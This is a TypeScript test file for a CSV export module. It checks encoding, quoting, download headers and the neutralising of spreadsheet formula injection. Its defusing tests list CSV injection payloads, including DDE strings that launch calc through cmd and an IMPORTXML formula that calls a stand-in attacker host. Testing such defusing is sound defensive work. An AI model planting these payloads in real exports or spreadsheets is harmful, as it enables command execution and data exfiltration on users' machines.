import { readdir } from "node:fs/promises";
import { tmpdir } from "node:os";
import Fastify from "fastify";
import iconv from "iconv-lite";
import { afterAll, describe, expect, it } from "vitest";
import { cellText, withoutDefusing } from "./cells.ts";
import { type CsvColumn, csvBytes } from "./csv-bytes.ts";
import type { CsvEncoding } from "./csv-encoding.ts";
import { attachment, sendCsv } from "./send-csv.ts";

interface Row {
  name: string | null;
  count: number;
}
const COLUMNS: CsvColumn<Row>[] = [
  { heading: "名称", cell: ({ name }) => name },
  { heading: "件数", cell: ({ count }) => count },
];

async function* chunks(...given: Row[][]): AsyncGenerator<Row[]> {
  yield* given;
}
async function bytesOf(encoding: CsvEncoding, ...given: Row[][]): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const part of csvBytes({ columns: COLUMNS, rows: chunks(...given), encoding })) parts.push(part);
  return Buffer.concat(parts);
}

describe("a CSV file", () => {
  it("is UTF-8 with a byte-order mark and RFC 4180, or CP932 without one", async () => {
    const rows = [{ name: 'a,"b"\n髙﨑①', count: -2 }];
    const text = '名称,件数\r\n"a,""b""\n髙﨑①",-2\r\n,0\r\n';
    const more = [{ name: null, count: 0 }];
    expect((await bytesOf("utf8", rows, [], more)).toString("utf8")).toBe(`\uFEFF${text}`);
    expect(iconv.decode(await bytesOf("sjis", rows, more), "cp932")).toBe(text);
  });

  it("quotes a cell of several lines, whatever ends them", async () => {
    const rows = ["一\n二", "一\r二", "一\r\n二"].map((name) => ({ name, count: 1 }));
    expect((await bytesOf("sjis", rows)).toString("latin1").match(/"/g)).toHaveLength(6);
  });

  it("has its headings also without rows", async () => {
    expect((await bytesOf("utf8")).toString("utf8")).toBe("\uFEFF名称,件数\r\n");
  });

  it("defuses what becomes a formula by its encoding only", async () => {
    const rows = [{ name: "–1+cmd|' /C calc'!A0", count: 1 }];
    expect(iconv.decode(await bytesOf("sjis", rows), "cp932")).toContain("'－1+cmd");
    expect((await bytesOf("utf8", rows)).toString()).toContain("\n–1+cmd");
  });

  const formulas = [
    "=1+1",
    "+81",
    "-cmd|x",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "-1+1",
    "-1,2,3",
  ];
  it.each(formulas)("defuses %j, and reads it back", (cell) => {
    expect(cellText(cell)).toBe(`'${cell}`);
    expect(withoutDefusing(cellText(cell))).toBe(cell);
  });
  it.each(["a=1", "電池", "'=1", "", "1-2", "-", "－", "-5", "-1,234.5", "-0.5%"])("leaves %j as it is", (cell) =>
    expect(cellText(cell)).toBe(cell),
  );

  it.each([
    "=",
    "+",
    "@",
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=         cmd|'/c calc.exe'!A",
    '=IMPORTXML("http://[ATTACKER]/csv", "//a/@href")',
    "-2+3+cmd|' /C calc'!A0",
    '-HYPERLINK("http://x")',
  ])("defuses the attack %j", (cell) => expect(cellText(cell)).toBe(`'${cell}`));
});

const NAMES = { fileName: "利用者 一覧(1).csv", asciiName: "users_1.csv" };

describe("a download", () => {
  const app = Fastify();
  let isDone = false;
  app.get("/file", async (_request, reply) => {
    await sendCsv(reply, {
      ...NAMES,
      columns: COLUMNS,
      encoding: "utf8",
      rows: (async function* () {
        for (let at = 0; at < 50; at += 1) yield [{ name: `${at}`, count: at }];
        isDone = true;
      })(),
    });
    return reply;
  });
  app.get("/broken", async (_request, reply) =>
    sendCsv(reply, {
      ...NAMES,
      columns: COLUMNS,
      encoding: "sjis",
      // biome-ignore lint/correctness/useYield: it fails before the first row
      rows: (async function* (): AsyncGenerator<Row[]> {
        throw new Error("no database");
      })(),
    }),
  );
  /** 500 chunks of a hundred rows, each with one character that CP932 lacks. */
  app.get("/long", (_request, reply) =>
    sendCsv(reply, {
      ...NAMES,
      columns: COLUMNS,
      encoding: "sjis",
      rows: (async function* () {
        for (let at = 0; at < 500; at += 1) yield Array(100).fill({ name: `𠮷野家〜${at}`, count: at });
      })(),
    }),
  );
  afterAll(() => app.close());

  it("has a name for every client, and is all there", async () => {
    const answer = await app.inject("/file");
    expect(answer.headers["content-disposition"]).toBe(attachment(NAMES));
    expect(answer.headers["content-disposition"]).toContain("filename=\"users_1.csv\"; filename*=UTF-8''%E5%88%A9");
    expect(answer.headers["content-disposition"]).toContain("%281%29.csv");
    expect(answer.body.split("\r\n")).toHaveLength(52);
    expect(isDone).toBe(true);
    expect(answer.headers["x-replaced-characters"]).toBe("0");
  });

  it("that fails before its first row is no file", async () => {
    const answer = await app.inject("/broken");
    expect(answer.statusCode).toBe(500);
    expect(answer.headers["content-disposition"]).toBeUndefined();
  });

  it("says before its first byte how many characters it lacks, and leaves no file behind", async () => {
    const before = await spools();
    const answer = await app.inject("/long");
    expect(answer.headers["x-replaced-characters"]).toBe("50000");
    const lines = iconv.decode(answer.rawPayload, "cp932").split("\r\n");
    expect([lines.length, lines[1], lines.at(-2)]).toEqual([50_002, "〓野家～0,0", "〓野家～499,499"]);
    expect(await spools()).toEqual(before);
  });
});

const spools = async () => (await readdir(tmpdir())).filter((name) => name.startsWith("kirinuki-download-"));
